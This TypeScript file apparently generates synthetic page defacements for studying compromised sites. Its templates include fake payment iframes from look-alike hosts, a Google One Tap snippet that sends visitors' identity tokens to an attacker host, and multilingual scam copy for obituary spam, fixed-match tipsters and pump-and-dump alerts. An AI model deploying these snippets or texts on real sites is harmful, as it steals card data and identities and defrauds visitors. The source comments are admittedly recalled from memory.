    const text = `⚡ ${esc(siteOr(rng, page, lightningWords))}: ${shownValue}${qr}`
    const line = lineAfter(page, page.ids.email) ?? lineAfter(page, page.ids.phone.intl)
    out.push(line !== null ? insert(line.at, line.wrap(text)) : insert(anySlot(rng, page.spots), `<p>${text}</p>`))
  }
  return { splices: out }
})

const obitWords: Record<Lang, readonly [string, (n: string, a: number, b: number, c: string) => string, string]> = {
  en: ["Latest obituaries", (n, a, b, c) => `${n} Obituary (${a}–${b}), ${c}: cause of death, funeral and visitation details`, "Read more"],
  fr: ["Derniers avis de décès", (n, a, b, c) => `Avis de décès de ${n} (${a}-${b}), ${c} : cause du décès, obsèques et condoléances`, "Lire la suite"],
  de: ["Aktuelle Traueranzeigen", (n, a, b, c) => `Nachruf ${n} (${a}–${b}), ${c}: Todesursache, Trauerfeier und Beisetzung`, "Weiterlesen"],
  es: ["Últimas esquelas", (n, a, b, c) => `Esquela de ${n} (${a}-${b}), ${c}: causa de la muerte, funeral y velatorio`, "Leer más"],
  nl: ["Recente overlijdensberichten", (n, a, b, c) => `In memoriam ${n} (${a}-${b}), ${c}: doodsoorzaak, uitvaart en condoleances`, "Lees meer"],
  pt: ["Obituários recentes", (n, a, b, c) => `Obituário de ${n} (${a}-${b}), ${c}: causa da morte, velório e sepultamento`, "Leia mais"],
  it: ["Ultimi necrologi", (n, a, b, c) => `Necrologio di ${n} (${a}-${b}), ${c}: causa della morte, funerale e condoglianze`, "Leggi tutto"]
}
const towns: Record<string, ReadonlyArray<string>> = {
  us: ["Springfield, OH", "Columbus, GA", "Fresno, CA", "Dayton, OH"], uk: ["Leeds", "Swindon", "Norwich", "Stockport"], fr: ["Angers", "Limoges", "Nancy", "Brest"],
  de: ["Kassel", "Bielefeld", "Würzburg", "Rostock"], es: ["Valladolid", "Murcia", "Gijón", "Córdoba"], nl: ["Zwolle", "Breda", "Leeuwarden", "Tilburg"],
  au: ["Geelong", "Ballarat", "Toowoomba", "Wollongong"], in: ["Pune", "Nagpur", "Indore", "Kochi"], br: ["Campinas", "Londrina", "Natal", "Joinville"], it: ["Bergamo", "Modena", "Perugia", "Lecce"]
}

// Obituary spam, recalled from memory of reporting in early 2024 (The Verge and The New York Times among others) on "obituary pirates": sites and channels that scrape funeral homes' death notices and publish AI-written obituaries of recently deceased people, with speculation on the cause of death, to draw search traffic and ad revenue, sometimes on expired or hacked domains: a list of such obituaries, with towns and years, appears on the site and links to the spam site.
const obituarySpam = fresh11("list of AI-written obituaries with 'cause of death' speculation linking to an obituary spam site", (page, rng) => {
  const [h, line, more] = siteOr(rng, page, obitWords)
  const host = pick(rng, [`${pick(rng, ["obituary", "obits", "rip", "funeral", "tribute"])}${pick(rng, ["-today", "news", "24", "-notice", "daily"])}.${tld(rng)}`, randomDomain(rng)])
  const y = someDate(rng).getUTCFullYear()
  const items = Array.from({ length: between(rng, 3, 8) }, () => {
    const n = personName(rng)
    return `<li><a href="https://${host}/${slug(n)}-${pick(rng, ["obituary", "death", "cause-of-death", "funeral"])}-${digits(rng, 4)}">${esc(line(n, y - between(rng, 38, 94), y, pick(rng, towns[page.site.locale.country] ?? towns.us!)))}</a></li>`
  }).join("")
  const block = `<section class="${pick(rng, ["obituaries", "rip-list", "latest-" + alnum(rng, 3)])}"><h3>${esc(h)}</h3><ul>${items}</ul><p><a href="https://${host}/">${esc(more)} ›</a></p></section>`
  return splices(insert(spamSpot(rng, page), block))
})

const fixedWords: Record<Lang, readonly [string, string, string]> = {
  en: ["100% sure fixed matches", "Reliable inside information from club sources. Half-time/full-time tickets with big odds, paid before kick-off, money back if a tip loses. Yesterday's VIP ticket won again:", "Buy today's VIP ticket"],
  fr: ["Matchs truqués 100 % sûrs", "Informations fiables de l'intérieur des clubs. Tickets mi-temps/fin de match à grosses cotes, payés avant le coup d'envoi, remboursés si le pronostic perd. Le ticket VIP d'hier a encore gagné :", "Acheter le ticket VIP du jour"],
  de: ["100 % sichere Schiebungsspiele (Fixed Matches)", "Zuverlässige Insiderinformationen aus Vereinskreisen. Halbzeit/Endstand-Tipps mit hohen Quoten, vor Anpfiff bezahlt, Geld zurück bei verlorenem Tipp. Das VIP-Ticket von gestern hat wieder gewonnen:", "Heutiges VIP-Ticket kaufen"],
  es: ["Partidos amañados 100 % seguros", "Información fiable desde dentro de los clubes. Boletos descanso/final con cuotas altas, pagados antes del partido, reembolso si el pronóstico pierde. El boleto VIP de ayer volvió a ganar:", "Comprar el boleto VIP de hoy"],
  nl: ["100% zekere fixed matches", "Betrouwbare inside-informatie uit clubkringen. Rust/eindstand-tickets met hoge odds, vooraf betaald, geld terug als een tip verliest. Het VIP-ticket van gisteren won weer:", "Koop het VIP-ticket van vandaag"],
  pt: ["Jogos combinados 100% garantidos", "Informação confiável de dentro dos clubes. Bilhetes intervalo/final com odds altas, pagos antes do jogo, reembolso se o palpite perder. O bilhete VIP de ontem ganhou de novo:", "Comprar o bilhete VIP de hoje"],
  it: ["Partite truccate sicure al 100%", "Informazioni affidabili dall'interno dei club. Schedine primo tempo/finale con quote alte, pagate prima del fischio d'inizio, rimborso se il pronostico perde. La schedina VIP di ieri ha vinto ancora:", "Compra la schedina VIP di oggi"]
}
const clubs = ["Galatasaray", "Fenerbahçe", "Ajax", "PSV", "Benfica", "Porto", "Celtic", "Rangers", "Olympiacos", "PAOK", "Dinamo Zagreb", "Hajduk Split", "Red Star", "Partizan", "Boca Juniors", "River Plate", "Club Brugge", "Anderlecht", "Sparta Praha", "Slavia Praha"]

// "Fixed match" tipster scams, recalled from memory of warnings by UEFA, Europol and Sportradar (about 2018–2023) about sellers of "100% sure fixed matches" who claim inside knowledge of rigged games, take payment for "VIP tickets" in cryptocurrency or money transfers and show doctored past wins; their advertisements are a staple of spam on forums and hacked pages.
const fixedMatches = fresh11("'100% sure fixed matches' tipster advert with a table of past 'wins' and a VIP ticket to buy", (page, rng) => {
  const [h, p, cta] = siteOr(rng, page, fixedWords)
  const host = pick(rng, [`${pick(rng, ["sure", "fixed", "vip", "real"])}-${pick(rng, ["fixed-matches", "fixedmatch", "tips", "odds"])}${pick(rng, ["", digits(rng, 2)])}.${pick(rng, ["com", "net", "org", "co", "bet"])}`, randomDomain(rng)])
  const rows = Array.from({ length: between(rng, 2, 5) }, () => {
    const [a, b] = sample(rng, clubs, 2)
    const [ht, ft] = pick(rng, [["2/1", "1:2"], ["1/2", "2:1"], ["X/1", "2:1"], ["2/X", "1:1"], ["X/2", "0:1"]] as const)
    return `<tr><td>${esc(dateOf(rng, page))}</td><td>${esc(a!)} – ${esc(b!)}</td><td>HT/FT ${ht}</td><td>${between(rng, 12, 45)}.00</td><td>✅ ${ft}</td></tr>`
  }).join("")
  const pay = pick(rng, ["Bitcoin / USDT", "Skrill / Neteller", "Western Union / MoneyGram", "PayPal F&F"])
  const block = `<div class="${pick(rng, ["tips", "betting", "vip-" + alnum(rng, 3)])}" style="border:2px solid #0a0;padding:10px;margin:10px 0"><h3>⚽ ${esc(h)}</h3><p>${esc(p)}</p><table border="1" cellpadding="4"><tbody>${rows}</tbody></table><p><a href="https://${host}/${pick(rng, ["vip", "buy", "ticket"])}"><b>${esc(cta)}</b></a> · ${pay} · Telegram @${pick(rng, ["fixedmatch", "surebet", "vipfixed", "insiderodds"])}${digits(rng, 3)} · WhatsApp ${intlMobile(rng)}</p></div>`
  return splices(insert(spamSpot(rng, page), block))
})

const cardFieldWords: Record<Lang, readonly [string, string, string]> = {
  en: ["Payment details", "Card number", "Pay securely"], fr: ["Informations de paiement", "Numéro de carte", "Payer en toute sécurité"],
  de: ["Zahlungsdaten", "Kartennummer", "Sicher bezahlen"], es: ["Datos de pago", "Número de tarjeta", "Pagar de forma segura"],
  nl: ["Betaalgegevens", "Kaartnummer", "Veilig betalen"], pt: ["Dados de pagamento", "Número do cartão", "Pagar com segurança"],
  it: ["Dati di pagamento", "Numero della carta", "Paga in sicurezza"]
}
const uuid = (rng: Rng) => `${hex(rng, 8)}-${hex(rng, 4)}-4${hex(rng, 3)}-${pick(rng, ["8", "9", "a", "b"])}${hex(rng, 3)}-${hex(rng, 12)}`

// Look-alike payment frames, recalled from memory with uncertain details of Sansec's and Jscrambler's write-ups (about 2022–2024) on skimmers that inject a fake card-entry iframe, or replace the genuine Stripe, Braintree or Adyen hosted-fields frame, so that the card number is typed into a frame served from the attackers' look-alike host; and of PCI DSS 4.0 requirements 6.4.3 and 11.6.1 (2022), written because payment pages' scripts and frames were being altered. The site's form (or a new "payment details" block) gains a frame named, titled and sized like the provider's.
const fakeHostedFields = fresh11("card-entry iframe imitating Stripe, Braintree or Adyen hosted fields, from a look-alike host", (page, rng) => {
  const [label, number, payLabel] = siteOr(rng, page, cardFieldWords)
  const [provider, src, name] = pick(rng, [
    () => ["Stripe", `https://${pick(rng, [`js.stripe-${pick(rng, ["cdn", "elements", "checkout"])}.${tld(rng)}`, "js.strlpe.com", `stripe-js.${tld(rng)}`, `m.stripe-network.${tld(rng)}`])}/v3/elements-inner-card-${hex(rng, 32)}.html#wait=false&rtl=false&componentName=cardNumber&keyMode=live&apiKey=pk_live_${alnum(rng, 24)}`, `__privateStripeFrame${digits(rng, 4)}`] as const,
    () => ["Braintree", `https://assets.braintree-${pick(rng, ["gateway", "payments", "cdn"])}.${tld(rng)}/web/3.${between(rng, 85, 106)}.0/html/hosted-fields-frame.min.html#${uuid(rng)}`, "braintree-hosted-field-number"] as const,
    () => ["Adyen", `https://checkoutshopper-live.adyen-${pick(rng, ["cdn", "pay", "secure"])}.${tld(rng)}/checkoutshopper/securedfields/live_${alnum(rng, 32).toUpperCase()}/4.${between(rng, 5, 9)}.0/securedFields.html?type=card`, `adyen-checkout-encryptedCardNumber-${digits(rng, 13)}`] as const
  ])()
  const frame = `<label>${esc(number)}</label><div class="${provider === "Stripe" ? "StripeElement" : provider === "Braintree" ? "hosted-field braintree-hosted-fields-focused" : "adyen-checkout__input"}"><iframe name="${name}" src="${esc(src)}" title="${provider === "Stripe" ? "Secure card payment input frame" : "Secure payment field"}" frameborder="0" allowtransparency="true" scrolling="no" allow="payment *" style="border:none;margin:0;padding:0;width:1px;min-width:100%;overflow:hidden;display:block;height:${pick(rng, [40, 44, 48])}px"></iframe></div>`
  const f = forms(page).find((e) => !(e.attribs.class ?? "").includes("newsletter")) ?? forms(page)[0]
  if (f !== undefined && chance(rng, 0.7)) return splices(insert(f.closeTag !== null ? f.closeTag.start : f.openEnd, frame))
  return splices(insert(noticeSpot(rng, page), `<section class="${pick(rng, ["payment", "checkout-card", "pay-box"])}" style="max-width:420px;border:1px solid #ddd;padding:14px;margin:12px 0"><h3>🔒 ${esc(label)}</h3>${frame}<p><button type="button">${esc(payLabel)}</button></p></section>`))
})

// Google One Tap prompts under someone else's client id, recalled from memory of Google Identity Services' documentation (One Tap and "Sign in with Google", 2020 onwards: the g_id_onload element with data-client_id and data-login_uri, and the browser prompt "Sign in to <app> with Google" listing the visitor's Google accounts), with OAuth consent phishing (used elsewhere) as the nearest reported abuse; the writer knows of no report of this exact variant. Visitors signed in to Google see a prompt on the site that, with one click, sends a signed token carrying their name, e-mail address and photo to the attacker.
const oneTapHarvest = fresh11("Google One Tap sign-in prompt under the attacker's client id, sending visitors' Google identities to another host", (page, rng) => {
  const client = `${digits(rng, 12)}-${alnum(rng, 32)}.apps.googleusercontent.com`
  const sink = `https://${evil(rng, page)}/${pick(rng, ["auth/google/callback", "gsi", "oauth/google", "login/g"])}`
  const lib = `<script src="https://accounts.google.com/gsi/client" async${chance(rng, 0.5) ? " defer" : ""}></script>`
  const cb = `__g${alnum(rng, 5)}`
  const block = pick(rng, [
    () => `${lib}<div id="g_id_onload" data-client_id="${client}" data-login_uri="${sink}" data-auto_prompt="true" data-itp_support="true" data-cancel_on_tap_outside="false" data-context="${pick(rng, ["signin", "signup", "use"])}"></div>`,
    () => `${lib}<div id="g_id_onload" data-client_id="${client}" data-callback="${cb}" data-auto_select="true" data-itp_support="true"></div><script>function ${cb}(r){navigator.sendBeacon(${js(sink)},r.credential)}</script>`,
    () => `${lib}<script>window.onload=function(){google.accounts.id.initialize({client_id:${js(client)},auto_select:true,cancel_on_tap_outside:false,callback:function(r){fetch(${js(sink)},{method:"POST",mode:"no-cors",body:r.credential})}});google.accounts.id.prompt()}</script>`
  ])()
  const button = chance(rng, 0.3) ? `<div class="g_id_signin" data-type="standard" data-shape="pill" data-theme="outline" data-text="signin_with" data-size="large"></div>` : ""
  return splices(insert(pick(rng, [top(page), bottom(page), head(page)]), block), ...(button === "" ? [] : [insert(noticeSpot(rng, page), button)]))
})

// Traces of a broken backdoor, recalled from memory with uncertain details of WordPress support-forum threads and Sucuri clean-up notes (2010s–2020s) where a half-removed or failed infection printed PHP errors above the page: "include(...): Failed to open stream" for a deleted backdoor file (often a fake .ico file included from wp-config.php), "Parse error ... eval()'d code", or "headers already sent" naming the injected file; the page still renders, under the warnings.
const phpWarnings = fresh11("PHP warnings from a broken backdoor include printed above the page", (page, rng) => {
  const user = `${page.site.brand.replace(/[^a-z0-9]/g, "").slice(0, 8) || "site"}${pick(rng, ["", digits(rng, 2)])}`
  const root = pick(rng, [`/home/${user}/public_html`, `/var/www/${page.site.host}/htdocs`, `/var/www/vhosts/${page.site.domain}/httpdocs`, `/home/${user}/domains/${page.site.domain}/public_html`])
  const y = someDate(rng)
  const bad = pick(rng, [
    `${root}/wp-content/plugins/${pick(rng, ["wp-security-patch", "classic-editor-fix", "akismet-" + alnum(rng, 3), alnum(rng, 7)])}/${pick(rng, ["index", "loader", "class-core"])}.php`,
    `${root}/wp-content/uploads/${y.getUTCFullYear()}/${String(y.getUTCMonth() + 1).padStart(2, "0")}/${alnum(rng, 8)}.php`,
    `${root}/.${alnum(rng, 8)}.ico`, `${root}/wp-includes/css/${alnum(rng, 6)}.php`, `/tmp/.${alnum(rng, 6)}`
  ])
  const where = `${root}/${pick(rng, ["wp-config.php", "index.php", "wp-content/themes/" + pick(rng, ["twentytwentyone", "astra", "divi", "flatsome"]) + "/functions.php"])}`
  const line = between(rng, 1, 120)
  const msg = pick(rng, [
    () => `<br />\n<b>Warning</b>:  include(${bad}): Failed to open stream: No such file or directory in <b>${where}</b> on line <b>${line}</b><br />\n<br />\n<b>Warning</b>:  include(): Failed opening '${bad}' for inclusion (include_path='.:/usr/share/php') in <b>${where}</b> on line <b>${line}</b><br />\n`,
    () => `<br />\n<b>Parse error</b>:  syntax error, unexpected end of file in <b>${where}(${line}) : eval()'d code</b> on line <b>1</b><br />\n`,
    () => `<br />\n<b>Warning</b>:  Cannot modify header information - headers already sent by (output started at ${bad}:${between(rng, 1, 9)}) in <b>${root}/wp-includes/pluggable.php</b> on line <b>${pick(rng, [1435, 1450, 1531])}</b><br />\n`,
    () => `<br />\n<b>Deprecated</b>:  Function create_function() is deprecated in <b>${bad}</b> on line <b>${line}</b><br />\n<br />\n<b>Warning</b>:  base64_decode() expects parameter 1 to be string, array given in <b>${bad}</b> on line <b>${line + 1}</b><br />\n`
  ])()
  return splices(insert(pick(rng, [0, top(page), top(page)]), msg))
})

const pumpWords: Record<Lang, readonly [(t: string) => string, (t: string, x: number, p: string, tg: string) => string, string, string]> = {
  en: [(t) => `STOCK ALERT: ${t} is about to explode`, (t, x, p, tg) => `Our analysts expect ${t} to rise ${x}% ahead of a major announcement next week. It trades at only ${p} today, with a short-term target of ${tg}. Insiders are buying – get in before Monday's open.`, "Get the free report", "We were paid by a third party to distribute this alert. Not investment advice."],
  fr: [(t) => `ALERTE BOURSE : ${t} va exploser`, (t, x, p, tg) => `Nos analystes attendent une hausse de ${x} % de ${t} avant une annonce majeure la semaine prochaine. L'action ne vaut que ${p} aujourd'hui, objectif à court terme ${tg}. Les initiés achètent : entrez avant l'ouverture de lundi.`, "Recevoir le rapport gratuit", "Nous avons été rémunérés par un tiers pour diffuser cette alerte. Ceci n'est pas un conseil en investissement."],
  de: [(t) => `AKTIEN-ALARM: ${t} steht vor der Explosion`, (t, x, p, tg) => `Unsere Analysten erwarten für ${t} ein Plus von ${x} % vor einer wichtigen Meldung nächste Woche. Heute kostet die Aktie nur ${p}, kurzfristiges Kursziel ${tg}. Insider kaufen – steigen Sie vor Montag ein.`, "Gratis-Report anfordern", "Für die Verbreitung dieser Meldung wurden wir von einem Dritten bezahlt. Keine Anlageberatung."],
  es: [(t) => `ALERTA BURSÁTIL: ${t} va a dispararse`, (t, x, p, tg) => `Nuestros analistas prevén que ${t} suba un ${x} % antes de un gran anuncio la próxima semana. Hoy cotiza a solo ${p}, con un objetivo a corto plazo de ${tg}. Los de dentro están comprando: entre antes de la apertura del lunes.`, "Recibir el informe gratis", "Un tercero nos ha pagado por difundir esta alerta. No es asesoramiento de inversión."],
  nl: [(t) => `AANDELENALERT: ${t} staat op het punt te exploderen`, (t, x, p, tg) => `Onze analisten verwachten dat ${t} ${x}% stijgt vóór een grote aankondiging volgende week. Het aandeel kost vandaag maar ${p}, met een koersdoel van ${tg} op korte termijn. Insiders kopen – stap in vóór de opening op maandag.`, "Ontvang het gratis rapport", "We zijn door een derde betaald om deze alert te verspreiden. Geen beleggingsadvies."],
  pt: [(t) => `ALERTA DE AÇÕES: ${t} vai explodir`, (t, x, p, tg) => `Nossos analistas esperam alta de ${x}% em ${t} antes de um grande anúncio na próxima semana. Hoje a ação custa só ${p}, com alvo de curto prazo de ${tg}. Os insiders estão comprando – entre antes da abertura de segunda.`, "Receber o relatório grátis", "Fomos pagos por terceiros para divulgar este alerta. Não é recomendação de investimento."],
  it: [(t) => `ALLERTA BORSA: ${t} sta per esplodere`, (t, x, p, tg) => `I nostri analisti prevedono un rialzo del ${x}% per ${t} prima di un grande annuncio la prossima settimana. Oggi il titolo vale solo ${p}, obiettivo a breve ${tg}. Gli insider comprano: entra prima dell'apertura di lunedì.`, "Ricevi il report gratuito", "Siamo stati pagati da terzi per diffondere questo avviso. Non è una consulenza finanziaria."]
}

// Penny-stock pump-and-dump spam, recalled from memory of the "stock spam" studied by Laura Frieder and Jonathan Zittrain ("Spam Works", 2006) and by Rainer Böhme and Thorsten Holz (2006), and of the SEC's investor alerts on pump-and-dump schemes spread online and on social media (about 2013–2023): an over-the-counter ticker "about to explode", a tiny price and a target many times higher, urgency, and a small-print disclosure that the promoter was paid.
const pumpAndDump = fresh11("penny-stock pump-and-dump alert ('OTC ticker about to explode 800%')", (page, rng) => {
  const [h, p, cta, small] = siteOr(rng, page, pumpWords)
  const t = upper(rng, pick(rng, [3, 4, 4, 5]))
  const price = between(rng, 2, 90) / 100
  const x = pick(rng, [300, 450, 600, 800, 1200])
  const fmt = (v: number) => `$${v.toFixed(v < 1 ? 3 : 2)}`
  const ticker = `${pick(rng, ["OTC", "OTCQB", "OTC Pink", "NASDAQ"])}: ${t}`
  const url = `https://${pick(rng, [`${pick(rng, ["penny", "stock", "otc", "micro"])}${pick(rng, ["alerts", "picks", "rocket", "insider"])}.${tld(rng)}`, randomDomain(rng)])}/${pick(rng, ["alert/" + t.toLowerCase(), t.toLowerCase(), "report?s=" + t])}`
  const block = `<div class="${pick(rng, ["stock-alert", "market-alert", "hot-pick"])}" style="border:2px solid #0b6;background:#f3fff8;padding:12px 16px;margin:12px 0"><h3>📈 ${esc(h(t))}</h3><p><b>${esc(ticker)}</b> · ${fmt(price)} → ${fmt(price * (1 + x / 100))}</p><p>${esc(p(`${t} (${ticker})`, x, fmt(price), fmt(price * (1 + x / 100))))}</p><p><a href="${esc(url)}" style="background:#0b6;color:#fff;padding:6px 14px;text-decoration:none">${esc(cta)}</a></p><p style="font-size:9px;color:#999">${esc(small)}</p></div>`
  return splices(insert(pick(rng, [top(page), noticeSpot(rng, page), spamSpot(rng, page)]), block))
})

/** Every fresh11 defacement class, in a fixed order. */
export const fresh11Defacements: ReadonlyArray<ChangeClass> = [
  smbCredentialLeak, openSearchHijack, affiliateIdSwap, vcardContact,
  decoyIdentifier, dataUrlLinks, fakeRecaptcha, browserProxy,
  beforeDoctype, obfuscatorLoader, wordpressReset, fakeAdClose,
  mapListing, voicemailPhish, rentalScam, vehicleEscrow, unclaimedLuggage,
  sattaMatka, counterfeitMoney, instantPaymentAlias, fakeThreeDSecure, packerLoader,
  funeralStream, keywordAutolinks, lightningSwap, obituarySpam, fixedMatches,
  fakeHostedFields, oneTapHarvest, phpWarnings, pumpAndDump
]
